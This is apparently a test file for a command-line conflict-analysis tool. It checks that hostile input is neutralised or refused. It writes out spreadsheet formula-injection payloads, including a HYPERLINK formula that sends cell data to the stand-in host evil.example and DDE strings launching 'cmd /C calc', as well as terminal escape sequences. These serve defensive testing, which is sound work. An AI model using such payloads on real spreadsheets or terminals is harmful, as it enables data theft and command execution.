// Each failure of issue 17 ("Hostile and careless input"), run as a user would, in this
// process (test/fixtures/concord.ts), except concurrent imports, which need two processes.
import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { concord, ROOT } from "./fixtures/concord.js";

const HOSTILE = join(ROOT, "test/hostile");
const EXAMPLE = join(ROOT, "scenarios/examples/getting-started.yaml");
const tmp = (): string => mkdtempSync(join(tmpdir(), "concord-hostile-"));
const BIN = join(ROOT, "packages/cli/bin/concord.js");
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e]/;

describe("spreadsheet formula injection", () => {
  it("export --to cameo and --to pax neutralise cells a spreadsheet would evaluate; --raw writes them as they are", async () => {
    const cameo = await concord(["export", join(HOSTILE, "formula-cells.yaml"), "--to", "cameo"]);
    expect(cameo.code).toBe(0);
    const cells = cameo.out.split("\n").flatMap((line) => line.split(","));
    expect(cells.filter((c) => /^"?[=+\-@]/.test(c))).toEqual([]);
    expect(cameo.out).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
    expect(cameo.out).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cameo.out).toContain("'-2+3+cmd|' /C calc'!A0");
    const pax = await concord(["export", join(HOSTILE, "formula-cells.yaml"), "--to", "pax", "--all"]);
    expect(pax.out).toContain(`"'=HYPERLINK(`);
    expect(pax.out).toContain("'+cmd|' /C calc'!A0");
    const raw = await concord(["export", join(HOSTILE, "formula-cells.yaml"), "--to", "cameo", "--raw"]);
    expect(raw.out).toBe(readFileSync(join(HOSTILE, "formula-cells.csv"), "utf8"));
  });

  it("import-events warns about formula-like cells, keeps them as text, and reads neutralised cells back as they were", async () => {
    const dir = tmp();
    copyFileSync(join(ROOT, "test/fixtures/record-small.yaml"), join(dir, "talks.yaml"));
    const r = await concord(["import-events", join(HOSTILE, "formula-cells.csv"), "--into", "talks.yaml"], { cwd: dir });
    expect(r.code).toBe(0);
    const warnings = r.err.split("\n").filter((l) => l !== "");
    expect(warnings).toHaveLength(3);
    expect(warnings[0]).toMatch(/formula-cells\.csv:2: warning: column "title": the cell starts with "=", so a spreadsheet would run it as a formula; kept as text/);
    // Exported (neutralised) and imported again: nothing changes.
    const out = await concord(["export", "talks.yaml", "--to", "cameo", "-o", "events.csv"], { cwd: dir });
    expect(out.code).toBe(0);
    const again = await concord(["import-events", "events.csv", "--into", "talks.yaml", "--json"], { cwd: dir });
    expect(again.err).toBe("");
    expect(JSON.parse(again.out)).toMatchObject({ ok: true, value: { added: [], updated: [] } });
    expect(readFileSync(join(dir, "talks.yaml"), "utf8")).toContain(`title: =HYPERLINK("http://evil.example/?"&A1,"click")`);
  });
});

describe("terminal escape sequences", () => {
  it("reach the terminal escaped, in validate, tables and the report summary", async () => {
    const file = join(HOSTILE, "terminal-escapes.yaml");
    const v = await concord(["validate", file]);
    expect(v.code).toBe(0);
    expect(v.out).toContain("Green Valley\\u001b]0;pwned\\u0007\\u001b[2J\\u001b[8mhidden\\u001b[0m \\u202edesrever");
    const dir = tmp();
    for (const args of [["validate", file], ["states", file], ["analyze", file], ["explain", file, "--state", "1", "--dm", "gov"], ["report", file, "-o", join(dir, "r.html")]]) {
      const r = await concord(args);
      expect(r.code, args.join(" ")).toBe(0);
      expect(RAW_CONTROL.test(r.out + r.err), args.join(" ")).toBe(false);
    }
  });
});

describe("the HTML report", () => {
  it("carries a strict Content-Security-Policy whose hashes cover exactly its stylesheets", async () => {
    const r = await concord(["report", join(HOSTILE, "html-injection.yaml"), "-o", "-"]);
    expect(r.code).toBe(0);
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(r.out)?.[1];
    expect(csp).toBeDefined();
    expect(csp).toMatch(/^default-src 'none'; style-src ('sha256-[A-Za-z0-9+/]+=' ?)+; img-src data:; base-uri 'none'; form-action 'none'$/);
    const styles = [...r.out.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((m) => `'sha256-${createHash("sha256").update(m[1]!).digest("base64")}'`);
    expect(new Set(csp!.match(/'sha256-[^']+'/g))).toEqual(new Set(styles));
    // The CSP comes before anything it governs, and injected markup stays text.
    expect(r.out.indexOf("Content-Security-Policy")).toBeLessThan(r.out.indexOf("<style>"));
    expect(r.out).not.toContain("<script>");
    expect(r.out).not.toContain('href="javascript:');
  });

  it("report -o - writes the page to standard output and no file named -", async () => {
    const dir = tmp();
    const r = await concord(["report", EXAMPLE, "-o", "-"], { cwd: dir });
    expect(r.code).toBe(0);
    expect(r.out.startsWith("<!DOCTYPE html>")).toBe(true);
    expect(readdirSync(dir)).toEqual([]);
    expect(await concord(["report", EXAMPLE, "-o", "-", "--format", "md"], { cwd: dir })).toMatchObject({ code: 2, out: "" });
  });
});

describe("writing output", () => {
  it("convert -o into a missing folder creates it; onto a folder or an impossible path gives one line and exit 2", async () => {
    const dir = tmp();
    expect((await concord(["convert", EXAMPLE, "--to", "json", "-o", "a/b/x.json"], { cwd: dir })).code).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, "a/b/x.json"), "utf8"))).toMatchObject({ id: "green-valley-2024" });
    mkdirSync(join(dir, "folder.json"));
    expect(await concord(["convert", EXAMPLE, "--to", "json", "-o", "folder.json"], { cwd: dir })).toEqual({ code: 2, out: "", err: "folder.json: cannot write the file: it is a folder\n" });
    const bad = await concord(["convert", EXAMPLE, "--to", "json", "-o", "/proc/concord/x.json"], { cwd: dir });
    expect(bad.code).toBe(2);
    expect(bad.err).toMatch(/^\/proc\/concord: cannot create the folder: [^\n]+\n$/);
  });

  it("as-of and export create missing folders too, as report does, and - is standard output everywhere", async () => {
    const dir = tmp();
    const file = join(ROOT, "test/fixtures/record-small.yaml");
    expect((await concord(["as-of", file, "2024-02-01", "-o", "new/as-of.yaml"], { cwd: dir })).code).toBe(0);
    expect((await concord(["export", file, "--to", "pax", "-o", "new/deeper/pax.csv"], { cwd: dir })).code).toBe(0);
    expect(existsSync(join(dir, "new/as-of.yaml")) && existsSync(join(dir, "new/deeper/pax.csv"))).toBe(true);
    for (const args of [["convert", file, "--to", "json"], ["as-of", file, "2024-02-01"], ["export", file, "--to", "cameo"]]) {
      const a = await concord([...args, "-o", "-"], { cwd: dir });
      const b = await concord(args, { cwd: dir });
      expect(a.code, args.join(" ")).toBe(0);
      expect(a.out, args.join(" ")).toBe(b.out);
    }
    expect(existsSync(join(dir, "-"))).toBe(false);
  });
});

describe("limits", () => {
  it("refuses /dev/zero, a FIFO and a folder before reading, and a file over --max-input, saying how to raise it", async () => {
    const dir = tmp();
    expect(await concord(["validate", "/dev/zero"])).toEqual({ code: 2, out: "", err: "/dev/zero: cannot read the file: not a regular file (a device, pipe or socket); save the input to a file first\n" });
    writeFileSync(join(dir, "big.yaml"), `concord: 1\nid: big\ntitle: big\nnote: "${"x".repeat(2 * 1024 * 1024)}"\n`);
    expect(await concord(["validate", "big.yaml", "--max-input", "1"], { cwd: dir })).toEqual({
      code: 2,
      out: "",
      err: "big.yaml: the file is larger than 1 MB, the input limit; to read it, raise the limit with --max-input <MB>\n",
    });
    expect((await concord(["validate", "big.yaml", "--max-input", "3"], { cwd: dir })).err).not.toMatch(/input limit/);
    expect(await concord(["validate", "big.yaml", "--max-input", "0x10"], { cwd: dir })).toMatchObject({ code: 2, err: '--max-input: expected a size in MB from 1 to 1024, found "0x10"\n' });
  });

  it("bounds --horizon (a billion used to run for minutes) and reads state numbers in decimal only (0x3 was 3)", async () => {
    const pd = join(ROOT, "scenarios/prisoners-dilemma.yaml");
    expect(await concord(["analyze", pd, "--horizon", "1000000000"])).toEqual({
      code: 2,
      out: "",
      err: "--horizon: expected at most 1000, found 1000000000; the limit is fixed: for the look-ahead as the horizon grows, use the non-myopic analysis\n",
    });
    expect((await concord(["analyze", pd, "--horizon", "1000"])).code).toBe(0);
    for (const n of ["0x3", "3e0", "3.0", "+3", " "]) {
      const r = await concord(["explain", EXAMPLE, "--state", n, "--dm", "gov"]);
      expect(r.code, n).toBe(2);
      expect(r.err, n).toMatch(/^--state: expected a state number from 1 to 24 \(decimal digits\)/);
    }
    expect((await concord(["explain", EXAMPLE, "--state", "3", "--dm", "gov"])).code).toBe(0);
  });

  it("stops 100,000-deep nesting with a clear message instead of a stack overflow", async () => {
    const r = await concord(["validate", join(HOSTILE, "deep-nesting.json")]);
    expect(r.code).toBe(2);
    expect(r.err.split("\n")[0]).toMatch(/deep-nesting\.json:1:201: lists and mappings nest more than 200 levels deep here/);
    expect(r.err).not.toMatch(/call stack/);
  });
});

describe("encoding", () => {
  it("refuses Latin-1 with the byte offset, line and the iconv hint, and binary garbage as not YAML/JSON text", async () => {
    const latin = await concord(["validate", "latin1.yaml"], { cwd: HOSTILE });
    expect(latin.err).toBe("latin1.yaml:6:43: not UTF-8 text: byte 318 (0xe9) is not valid UTF-8; save the file as UTF-8 (e.g. iconv -f latin1 -t utf-8 latin1.yaml > fixed)\nlatin1.yaml: 1 problem\n");
    expect((await concord(["validate", "binary-garbage.yaml"], { cwd: HOSTILE })).err.split("\n")[0]).toMatch(/^binary-garbage\.yaml:\d+:\d+: not YAML\/JSON text: binary data/);
    expect((await concord(["validate", "bom.yaml"], { cwd: HOSTILE })).code).toBe(0);
  });

  it("import-events never writes U+FFFD into the scenario: a Latin-1 CSV is refused and the scenario left as it was", async () => {
    const dir = tmp();
    copyFileSync(join(ROOT, "test/fixtures/record-small.yaml"), join(dir, "talks.yaml"));
    const before = readFileSync(join(dir, "talks.yaml"), "utf8");
    const r = await concord(["import-events", join(HOSTILE, "latin1-events.csv"), "--into", "talks.yaml"], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/latin1-events\.csv:3:\d+: not UTF-8 text: byte \d+ \(0xe9\)/);
    expect(readFileSync(join(dir, "talks.yaml"), "utf8")).toBe(before);
  });
});

describe("odd or lenient input", () => {
  it('rejects asOf "0000"', async () => {
    expect((await concord(["validate", "as-of-year-0000.yaml"], { cwd: HOSTILE })).err.split("\n")[0]).toBe(
      'as-of-year-0000.yaml:7:7: asOf: year 0000 is not a plausible date in "0000"; expected a year from 1000 to 2999',
    );
  });

  it("warns about [disarm, -disarm] and still validates", async () => {
    const r = await concord(["validate", "contradictory-preferences.yaml"], { cwd: HOSTILE });
    expect(r.code).toBe(0);
    expect(r.err).toBe('contradictory-preferences.yaml:61:11: model.decisionMakers[0].preferences[2]: warning: "-disarm" is the opposite of the earlier "disarm" in the feasible states, so it changes no ranking; remove one of them\n');
  });

  it("gives a precise message for a .gmcr option index of 1e308", async () => {
    expect((await concord(["validate", "huge-index.gmcr"], { cwd: HOSTILE })).err.split("\n")[0]).toBe(
      "huge-index.gmcr:7:31: decisionMakers[0].options[0]: expected a whole number of at most 15 digits, found the number 1e+308, too large to be an index or a count",
    );
  });
});

describe("edits in place", () => {
  const run = (cwd: string, args: string[]): Promise<{ code: number | null; err: string }> =>
    new Promise((done) => {
      const p = spawn(process.execPath, [BIN, ...args], { cwd });
      let err = "";
      p.stderr.on("data", (d: Buffer) => (err += String(d)));
      p.on("close", (code) => done({ code, err }));
    });

  it("two concurrent import-events into one scenario lose no event: each lands or is refused with a clear message", async () => {
    const csv = readFileSync(join(HOSTILE, "formula-cells.csv"), "utf8").split("\n");
    const row = csv.find((l) => l.startsWith("opening,"))!;
    for (let trial = 0; trial < 2; trial++) {
      const dir = tmp();
      copyFileSync(join(ROOT, "test/fixtures/record-small.yaml"), join(dir, "talks.yaml"));
      const ids = ["new-a", "new-b"];
      ids.forEach((id) => writeFileSync(join(dir, `${id}.csv`), `${csv[0]}\n${row.replace(/^opening,/, `${id},`)}\n`));
      const results = await Promise.all(ids.map((id) => run(dir, ["import-events", `${id}.csv`, "--into", "talks.yaml"])));
      const text = readFileSync(join(dir, "talks.yaml"), "utf8");
      for (const [i, r] of results.entries()) {
        if (r.code === 0) expect(text, `trial ${trial}: ${ids[i]} reported success`).toContain(`id: ${ids[i]}`);
        else expect(r.err, `trial ${trial}`).toMatch(/^talks\.yaml: not written: (the file changed since it was read|another concord run is writing it)/);
      }
      expect(readdirSync(dir).sort()).toEqual(["new-a.csv", "new-b.csv", "talks.yaml"]);
    }
  }, 60_000);
});
